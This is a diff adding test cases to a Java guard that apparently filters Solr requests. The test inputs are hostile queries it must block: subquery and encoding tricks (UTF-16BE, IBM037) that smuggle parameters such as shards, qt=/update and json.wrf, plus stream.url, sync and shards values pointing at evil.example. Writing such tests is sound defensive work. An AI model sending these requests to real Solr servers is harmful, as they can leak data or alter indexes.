@@ -201,6 +201,7 @@ class GuardTest {
     assertNotReached(wire(local).ask(SEARCH + "&json.wrf=steal"));
     assertNotReached(wire(local).ask(SEARCH + "&json%2Ewrf=steal"));
     assertNotReached(wire(local).ask(SEARCH + "&%ff%zz"));
+    assertNotReached(wire(local).ask(SEARCH + "&ie=UTF-16BE&%00j%00s%00o%00n%00.%00w%00r%00f=x"));
   }
 
   @Test
@@ -307,6 +308,13 @@ class GuardTest {
         "GET /solr/complaints/select?json={params:{qt:'/update'}}",
         "GET /solr/complaints/select?json.params.shards=x",
         "GET /solr/complaints/select?collection=secrets",
+        "GET /solr/complaints/select?fl=x:[subquery]&x.q=x&x.qt=/update&x.commit=true",
+        "GET /solr/complaints/select?fl=x:[subquery]&x.fl=y:[subquery]&x.y.shards=evil.example",
+        "GET /solr/complaints/select?fl=x:[subquery]&x.stream.url=http://evil.example",
+        "GET /solr/complaints/select?fl=x:[subquery]&x.json.params.qt=/replication",
+        "GET /solr/complaints/get?getVersions=9&sync=http://evil.example/solr/complaints",
+        "GET /solr/complaints/select?ie=UTF-16BE&%00q%00t=x",
+        "GET /solr/complaints/select?ie=utf-8&i%65=IBM037",
         "PUT /solr/complaints/select",
         "DELETE /solr/complaints/select",
         "PATCH /solr/complaints/select",
@@ -348,6 +356,36 @@ class GuardTest {
                 "Content-Type: application/x-www-form-urlencoded; charset=utf-8");
 
     assertThat(status(answer)).as(answer).isEqualTo(403);
+  }
+
+  /** As Solr reads it, the name of the parameter is shards. */
+  @ParameterizedTest
+  @ValueSource(
+      strings = {"charset=UTF-16BE", "charset=utf-8; charset=UTF-16BE", "charset=utf-8x", "a=b"})
+  void norByAFormInAnotherEncoding(String parameter) throws Exception {
+    String answer =
+        wire(reading)
+            .ask(
+                "%00s%00h%00a%00r%00d%00s=x".getBytes(UTF_8),
+                "POST /solr/complaints/select",
+                "Content-Type: application/x-www-form-urlencoded; " + parameter);
+
+    assertThat(answer)
+        .contains("must be sent as application/x-www-form-urlencoded")
+        .contains(" 403 ");
+  }
+
+  @Test
+  void whoMayOnlyReadSaysThatItIsUtf8() throws Exception {
+    for (String type : new String[] {"; charset=UTF-8", ";charset=\"utf-8\"", ""}) {
+      String answer =
+          wire(reading)
+              .ask(
+                  "q=x&x.q=y".getBytes(UTF_8),
+                  "POST /solr/complaints/select?ie=UTF-8",
+                  "Content-Type: application/x-www-form-urlencoded" + type);
+      assertThat(answer).endsWith(REACHED + " with q=x&x.q=y");
+    }
   }
 
   @Test
